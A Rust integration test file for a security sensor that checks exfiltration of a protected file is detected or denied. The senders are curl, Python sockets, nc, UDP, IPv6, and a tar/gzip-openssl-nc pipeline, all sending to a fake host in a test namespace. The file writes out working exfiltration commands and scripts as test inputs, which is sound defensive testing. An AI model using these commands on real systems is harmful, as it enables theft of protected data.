//! Exfiltration, one way out at a time: curl, python, nc, a connected UDP socket and native
//! IPv6 each send a protected file to the fake external host ([`FakeHost`], a network
//! namespace the test creates); with `action: alert` each gives a `detection.exfiltration`
//! with the destination and the bytes the sink received, with `action: deny` each connect
//! fails with EPERM and nothing arrives. A sender that connects before it reads the file
//! (nc, `cat | nc`, and Python over TCP and UDP) is cut under `action: deny` at its first tainted send:
//! nothing arrives, its detection says `deny` and `mnsensor.egress.cut`, and its send or
//! receive fails. Also: an archive or compressed copy piped through an encryptor to the
//! network, and an allowed destination with `allowed_uids`.
//!
//! Host-only (`HOST_ONLY` in xtask/src/vm/mod.rs): the busybox guest's `ip` cannot make the
//! namespace. The egress programs attach only to a child cgroup the test creates.

use std::{fs, os::unix::fs::PermissionsExt as _, path::Path, thread, time::Duration};

use mnsensor_tests::{
    cgroup::{Cgroup, EgressSetup},
    fakehost::{FakeHost, SINK, UDP_SINK, exfil_to},
    get_str, get_u64, is, path_str, scaled, show,
    users::test_users,
};
use serde_json::Value;

const SIZE: usize = 40_000;
/// Exit code of [`wrap`] when the client reported EPERM.
const EPERM_EXIT: i32 = 13;
/// Exit code of [`wrap`] when the client reported EPIPE.
const PIPE_EXIT: i32 = 14;

/// `python3 -c PY_TCP FILE ADDRESS PORT`: reads FILE, sends it over TCP.
const PY_TCP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\nc.sendall(data); c.close()";
/// `python3 -c PY_UDP_CONNECTED FILE ADDRESS PORT`: connect(2) on a UDP socket, then three
/// 1000-byte datagrams with send(2).
const PY_UDP_CONNECTED: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET6 if ':' in sys.argv[2] else socket.AF_INET, socket.SOCK_DGRAM)\ns.connect((sys.argv[2], int(sys.argv[3])))\nfor i in range(3): s.send(data[i * 1000:(i + 1) * 1000])";
/// `python3 -c PY_TCP_CONNECT_FIRST FILE ADDRESS PORT`: connects first, then reads FILE and
/// sends it over TCP (like nc, but a send that fails shows as a Python error).
const PY_TCP_CONNECT_FIRST: &str = "import socket, sys\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\ndata = open(sys.argv[1], 'rb').read()\nc.sendall(data)\nc.shutdown(socket.SHUT_WR)\nc.recv(1)";
/// `python3 -c PY_UDP_CONNECT_FIRST FILE ADDRESS PORT`: connect(2) on a UDP socket, then
/// reads FILE and sends three 1000-byte datagrams with send(2).
const PY_UDP_CONNECT_FIRST: &str = "import socket, sys\ns = socket.socket(socket.AF_INET6 if ':' in sys.argv[2] else socket.AF_INET, socket.SOCK_DGRAM)\ns.connect((sys.argv[2], int(sys.argv[3])))\ndata = open(sys.argv[1], 'rb').read()\nfor i in range(3): s.send(data[i * 1000:(i + 1) * 1000])";
/// An HTTP sink for curl (IP PORT OUT): reads a request with a Content-Length body, answers
/// 200 and appends the request's whole byte count (head and body) to OUT.
const HTTP_SINK: &str = r#"
import socket, sys
ip, port, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.socket(socket.AF_INET6 if ':' in ip else socket.AF_INET); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((ip, port)); s.listen(16)
open(out + ".ready", "w").close()
while True:
    c, _ = s.accept()
    data = b''
    while b'\r\n\r\n' not in data:
        b = c.recv(65536)
        if not b: break
        data += b
    head = data.split(b'\r\n\r\n')[0]
    length = [int(l.split(b':')[1]) for l in head.split(b'\r\n') if l.lower().startswith(b'content-length:')]
    while length and len(data) < len(head) + 4 + length[0]:
        b = c.recv(65536)
        if not b: break
        data += b
    c.sendall(b'HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n'); c.close()
    with open(out, "a") as f: f.write(f"{len(data)}\n")
"#;

/// One way out: how it sends `file` to `address`:`port`, and what listens there.
struct Way {
    name: &'static str,
    ipv6: bool,
    transport: &'static str,
    sink: &'static str,
    /// The shell command sending FILE to ADDRESS PORT.
    send: fn(&str, &str, u16) -> String,
    /// What the sink counts: the file (`SIZE`), 3000 for the datagrams, or more for curl's
    /// HTTP request (`None`: at least the file).
    expected: Option<u64>,
    /// Under `action: deny`, `None` when it reads the file before it connects: the connect
    /// is refused with EPERM. nc connects first and reads its stdin after: the connection is
    /// then cut at its first tainted send (docs/detections.md, "Egress control"), and this is
    /// how the sender exits: nc ends quietly when its socket fails (exit 0), Python's
    /// receive on the disconnected socket raises EPIPE ([`PIPE_EXIT`]), a UDP send fails
    /// with EPERM.
    cut_exit: Option<i32>,
}

const WAYS: &[Way] = &[
    Way {
        name: "curl",
        ipv6: false,
        transport: "tcp",
        sink: HTTP_SINK,
        send: |f, a, p| format!("curl -sSv -H Expect: --data-binary @{f} http://{a}:{p}/"),
        expected: None,
        cut_exit: None,
    },
    Way {
        name: "python",
        ipv6: false,
        transport: "tcp",
        sink: SINK,
        send: |f, a, p| format!("python3 -c \"{PY_TCP}\" {f} {a} {p}"),
        expected: Some(SIZE as u64),
        cut_exit: None,
    },
    Way {
        name: "nc",
        ipv6: false,
        transport: "tcp",
        sink: SINK,
        send: |f, a, p| format!("nc -N {a} {p} < {f}"),
        expected: Some(SIZE as u64),
        cut_exit: Some(0),
    },
    Way {
        name: "connected UDP",
        ipv6: false,
        transport: "udp",
        sink: UDP_SINK,
        send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
        expected: Some(3000),
        cut_exit: None,
    },
    Way {
        name: "cat | nc",
        ipv6: false,
        transport: "tcp",
        sink: SINK,
        // nc is tainted through the pipe (one hop), after it connected.
        send: |f, a, p| format!("sh -c 'cat {f} | nc -N {a} {p}'"),
        expected: Some(SIZE as u64),
        cut_exit: Some(0),
    },
    Way {
        name: "python connected before reading",
        ipv6: false,
        transport: "tcp",
        sink: SINK,
        send: |f, a, p| format!("python3 -c \"{PY_TCP_CONNECT_FIRST}\" {f} {a} {p}"),
        expected: Some(SIZE as u64),
        cut_exit: Some(PIPE_EXIT),
    },
    Way {
        name: "UDP connected before reading",
        ipv6: false,
        transport: "udp",
        sink: UDP_SINK,
        send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECT_FIRST}\" {f} {a} {p}"),
        expected: Some(3000),
        cut_exit: Some(EPERM_EXIT),
    },
    Way {
        name: "python over IPv6",
        ipv6: true,
        transport: "tcp",
        sink: SINK,
        send: |f, a, p| format!("python3 -c \"{PY_TCP}\" {f} {a} {p}"),
        expected: Some(SIZE as u64),
        cut_exit: None,
    },
    Way {
        name: "nc over IPv6",
        ipv6: true,
        transport: "tcp",
        sink: SINK,
        send: |f, a, p| format!("nc -N {a} {p} < {f}"),
        expected: Some(SIZE as u64),
        cut_exit: Some(0),
    },
    Way {
        name: "curl over IPv6",
        ipv6: true,
        transport: "tcp",
        sink: HTTP_SINK,
        send: |f, a, p| format!("curl -sSv -H Expect: --data-binary @{f} http://[{a}]:{p}/"),
        expected: None,
        cut_exit: None,
    },
    Way {
        name: "connected UDP over IPv6",
        ipv6: true,
        transport: "udp",
        sink: UDP_SINK,
        send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
        expected: Some(3000),
        cut_exit: None,
    },
];

/// `send` with its stderr in `err` (in the test's unprotected directory), stopped after a
/// minute: exits [`EPERM_EXIT`] when the client reported EPERM ("Operation not permitted",
/// strerror(1); EACCES would read "Permission denied"), [`PIPE_EXIT`] when it reported
/// EPIPE ("Broken pipe"), else with the client's own code (124: it was
/// stopped). The test never reads `err` itself: it was written by a tainted process.
fn wrap(send: &str, err: &Path) -> String {
    let err = path_str(err);
    format!(
        "timeout 60 {send} 2>{err}; rc=$?; if grep -q 'Operation not permitted' {err}; then exit {EPERM_EXIT}; fi; if grep -q 'Broken pipe' {err}; then exit {PIPE_EXIT}; fi; exit $rc"
    )
}

/// Sends `file` to `address:port` the way `way` does, in the test's cgroup: the sender's exit
/// code (EPERM mapped to [`EPERM_EXIT`]), its detection (checked for the destination address
/// and transport) and that detection shown for messages.
fn send_way(
    cg: &Cgroup,
    s: &mut EgressSetup,
    way: &Way,
    file: &str,
    address: &str,
    port: u16,
) -> (i32, Value, String) {
    let err = s.outside.join(format!("{port}.err"));
    let code = cg.run(&wrap(&(way.send)(file, address, port), &err));
    let d = s.sensor.wait_for(&format!("exfiltration by {} to port {port}", way.name), exfil_to(port));
    let what = format!("{}: {}", way.name, show(&d));
    assert_eq!(get_str(&d, "destination.address"), address, "{what}");
    assert_eq!(get_str(&d, "network.transport"), way.transport, "{what}");
    (code, d, what)
}

/// The fake host with each way's sink on `base + i`; the sender's address of each way.
fn host_for_ways(base: u16) -> (FakeHost, Vec<String>) {
    let mut host = FakeHost::new(&[]);
    let mut addresses = Vec::new();
    for (i, way) in WAYS.iter().enumerate() {
        let address = if way.ipv6 { host.ip6.clone() } else { host.ip.clone() };
        let port = base + i as u16;
        host.sink(way.sink, &address, port, &port.to_string());
        addresses.push(address);
    }
    (host, addresses)
}

#[test]
fn each_way_out_is_detected_with_its_destination_and_bytes() {
    let cg = Cgroup::new();
    let (host, addresses) = host_for_ways(9601);
    let mut s = EgressSetup::start(&cg, SIZE, "    action: alert\n", &[]);
    let file = path_str(&s.file).to_owned();
    for (i, (way, address)) in WAYS.iter().zip(&addresses).enumerate() {
        let port = 9601 + i as u16;
        let (code, d, what) = send_way(&cg, &mut s, way, &file, address, port);
        assert_eq!(code, 0, "{}: sent", way.name);
        // One connection, or three datagrams.
        let parts = if way.transport == "udp" { 3 } else { 1 };
        let received: u64 = host.received_n(port, parts).iter().sum();
        match way.expected {
            Some(n) => assert_eq!(received, n, "{}: bytes at the sink", way.name),
            None => assert!(received > SIZE as u64, "{}: the request and the file: {received}", way.name),
        }
        assert_eq!(get_u64(&d, "destination.port"), u64::from(port), "{what}");
        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), received, "{what}");
        assert_eq!(get_str(&d, "mnsensor.detection.action"), "alert", "{what}");
    }
    s.sensor.stop();
}

#[test]
fn each_way_out_is_refused_or_cut_under_deny() {
    let cg = Cgroup::new();
    let (host, addresses) = host_for_ways(9701);
    let mut s = EgressSetup::start(&cg, SIZE, "    action: deny\n", &[]);
    let file = path_str(&s.file).to_owned();
    for (i, (way, address)) in WAYS.iter().zip(&addresses).enumerate() {
        let port = 9701 + i as u16;
        let (code, d, what) = send_way(&cg, &mut s, way, &file, address, port);
        assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{what}");
        assert_eq!(get_u64(&d, "destination.port"), u64::from(port), "{what}");
        // The sender runs as the test's own user (`Cgroup::run`).
        // SAFETY: getuid has no preconditions.
        let uid = unsafe { libc::getuid() };
        assert_eq!(get_u64(&d, "process.real_user.id"), u64::from(uid), "{what}");
        let Some(cut_exit) = way.cut_exit else {
            assert_eq!(code, EPERM_EXIT, "{}: refused with EPERM", way.name);
            assert!(d.get("mnsensor.egress.cut").is_none(), "{what}");
            continue;
        };
        // Connected before it was tainted: the connection is cut at the first tainted send,
        // before its bytes reach the socket (the sinks are checked below).
        assert_eq!(code, cut_exit, "{}: how the sender of a cut connection ends", way.name);
        assert_eq!(d.get("mnsensor.egress.cut"), Some(&Value::Bool(true)), "{what}");
        // What it tried to send: TCP sends queue the whole file (none of it leaves); the
        // first datagram fails, so Python sends no more.
        let tried = if way.transport == "udp" { 1000 } else { SIZE as u64 };
        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), tried, "{what}");
    }
    // The same file from an untainted copy goes through: the sinks work.
    let public = path_str(&s.public).to_owned();
    let python = 1;
    let err = s.outside.join("public.err");
    assert_eq!(cg.run(&wrap(&(WAYS[python].send)(&public, &addresses[python], 9701 + 1), &err)), 0);
    assert_eq!(host.received_n(9701 + 1, 1), vec![SIZE as u64], "untainted send");
    thread::sleep(scaled(Duration::from_secs(1)));
    for (i, way) in WAYS.iter().enumerate() {
        let port = 9701 + i as u16;
        let expected: &[u64] = if i == python { &[SIZE as u64] } else { &[] };
        assert_eq!(host.received(port), expected, "{}: nothing of the file arrived", way.name);
    }
    s.sensor.stop();
}

/// `tar` or `gzip` reads the protected file, `openssl enc` encrypts the stream, nc sends it.
#[test]
fn an_archive_piped_through_an_encryptor_is_staging_and_exfiltration() {
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9801, 9802]);
    let mut s = EgressSetup::start(&cg, SIZE, "    action: alert\n", &[]);
    let file = path_str(&s.file).to_owned();
    let dir = path_str(s.file.parent().expect("protected dir")).to_owned();
    for (archiver, source, port) in
        [("tar", format!("tar c -C {dir} ."), 9801), ("gzip", format!("gzip -c {file}"), 9802)]
    {
        let pipeline = format!(
            "{source} | gzip | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x | nc -N {} {port}",
            host.ip
        );
        assert_eq!(cg.run(&pipeline), 0, "{pipeline}");
        let received = host.received_n(port, 1);
        assert_eq!(received.len(), 1, "{archiver}: one connection");
        let st = s.sensor.wait_for(&format!("{archiver} staging"), |e| {
            is(e, "detection.staging")
                && e.get("mnsensor.process.comm").and_then(Value::as_str) == Some(archiver)
        });
        assert!(get_u64(&st, "mnsensor.taint.bytes_read") >= SIZE as u64, "{}", show(&st));
        let d = s.sensor.wait_for(&format!("exfiltration of the {archiver} stream"), exfil_to(port));
        let what = format!("{archiver}: {}", show(&d));
        assert_eq!(get_str(&d, "mnsensor.process.comm"), "nc", "{what}");
        assert_eq!(get_str(&d, "destination.address"), host.ip, "{what}");
        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), received[0], "{what}");
        assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), archiver, "{what}");
    }
    s.sensor.stop();
}

#[test]
fn an_allowed_destination_is_reported_only_for_users_not_allowed() {
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9901, 9902]);
    let users = test_users("an_allowed_destination", 2);
    let (allowed, other) = (&users[0], &users[1]);
    let egress = format!(
        "    action: alert\n    allow:\n      - {{network: {}/32, ports: [9901]}}\n    allowed_uids: [{}]\n",
        host.ip, allowed.uid
    );
    let mut s = EgressSetup::start(&cg, SIZE, &egress, &[]);
    // The test users read the protected file and the script themselves.
    for (p, mode) in [(s.file.parent().expect("protected dir"), 0o755), (s.file.as_path(), 0o644)] {
        fs::set_permissions(p, fs::Permissions::from_mode(mode)).expect("chmod");
    }
    fs::set_permissions(s.outside.path(), fs::Permissions::from_mode(0o755)).expect("chmod outside");
    let script = s.outside.write("send.py", PY_TCP);
    let send = |uid: u32, gid: u32, port: u16| {
        cg.run(&format!(
            "setpriv --reuid={uid} --regid={gid} --clear-groups /usr/bin/python3 {} {} {} {port}",
            path_str(&script),
            path_str(&s.file),
            host.ip
        ))
    };
    assert_eq!(send(allowed.uid, allowed.gid, 9901), 0, "allowed user to the allowed destination");
    assert_eq!(send(other.uid, other.gid, 9901), 0, "other user to the allowed destination");
    // The allowed user's traffic is seen: to a port not allowed it is reported.
    assert_eq!(send(allowed.uid, allowed.gid, 9902), 0, "allowed user elsewhere");
    assert_eq!(host.received_n(9901, 2), vec![SIZE as u64; 2]);
    assert_eq!(host.received_n(9902, 1), vec![SIZE as u64]);
    let by = |uid: u32, port: u16| {
        move |e: &Value| {
            exfil_to(port)(e) && e.get("process.real_user.id").and_then(Value::as_u64) == Some(u64::from(uid))
        }
    };
    let d = s.sensor.wait_for("the allowed user to a port not allowed", by(allowed.uid, 9902));
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
    let d = s.sensor.wait_for("a user not allowed to the allowed destination", by(other.uid, 9901));
    let what = show(&d);
    assert_eq!(get_str(&d, "process.real_user.name"), other.name, "{what}");
    assert_eq!(get_str(&d, "destination.address"), host.ip, "{what}");
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
    thread::sleep(scaled(Duration::from_secs(2)));
    s.sensor.assert_none("the allowed user to the allowed destination", by(allowed.uid, 9901));
    s.sensor.stop();
}
